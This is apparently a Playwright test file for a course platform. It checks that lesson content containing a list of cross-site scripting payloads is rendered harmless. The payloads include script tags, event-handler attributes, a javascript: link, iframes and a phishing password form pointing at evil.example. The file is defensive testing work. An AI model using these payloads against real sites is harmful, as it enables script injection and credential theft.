import { expect, type Page } from '@playwright/test'
import { test } from '../support/browser-cast.ts'
import { actAs } from '../support/browser-steps.ts'
import { enrollIn, newCourse } from '../support/courses.ts'
import { targetUrl } from '../support/target.ts'

const HOSTILE = `<p>Calm text</p>
  <script>window.owned = 'script'</script>
  <img src="/no-such-picture" alt="" onerror="window.owned = 'onerror'">
  <svg onload="window.owned = 'svg'"><script>window.owned = 'svg script'</script></svg>
  <a href="javascript:window.owned='link'">Tempting link</a>
  <iframe src="https://evil.example/"></iframe>
  <iframe srcdoc="<script>parent.owned='srcdoc'</script>"></iframe>
  <object data="https://evil.example/"></object>
  <style>main { display: none }</style>
  <p style="position: fixed; inset: 0; background: url(https://evil.example/pixel)">Covering text</p>
  <form action="https://evil.example/"><input type="password" name="password"><button>Log in again</button></form>`

/** Opens the lesson and holds that nothing of it ran, was fetched from elsewhere, or changed the page. */
async function expectHarmless(page: Page, courseId: number): Promise<void> {
  const elsewhere: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(targetUrl()) && !request.url().startsWith('data:')) elsewhere.push(request.url())
  })
  await page.goto(`/courses/${courseId}/learn`)
  await expect(page.getByText('Calm text')).toBeVisible()
  const link = page.getByText('Tempting link')
  await link.click()

  const article = page.getByRole('article')
  await expect(
    // Questions under the lesson are searched in a field of our own.
    article.locator('script, iframe, object, style, form, input:not([type=search]), svg svg, [onerror], [style*=url]'),
  ).toHaveCount(0)
  await expect(article.getByText('Log in again')).not.toHaveRole('button')
  await expect(page.getByRole('button', { name: 'Mark as Complete' })).toBeVisible()
  expect(await page.evaluate(() => 'owned' in window)).toBe(false)
  expect(elsewhere).toEqual([])
  await expect(page).toHaveURL(new RegExp(`/courses/${courseId}/learn$`))
}

test('a hostile lesson does nothing when a teacher posts it', async ({ page, teacher, student }) => {
  const course = await newCourse(teacher, { lessons: [1], content: HOSTILE })
  await enrollIn(student, course)
  await actAs(page, student)
  await expectHarmless(page, course.id)
})

test('a hostile lesson does nothing even if it reaches the browser as it is', async ({ page, student, course }) => {
  await page.route(`**/api/lessons/${course.lessonIds[0]}`, async (route) => {
    const response = await route.fetch()
    const json = await response.json()
    await route.fulfill({ response, json: { ...json, content: HOSTILE } })
  })
  await actAs(page, student)
  await expectHarmless(page, course.id)
})
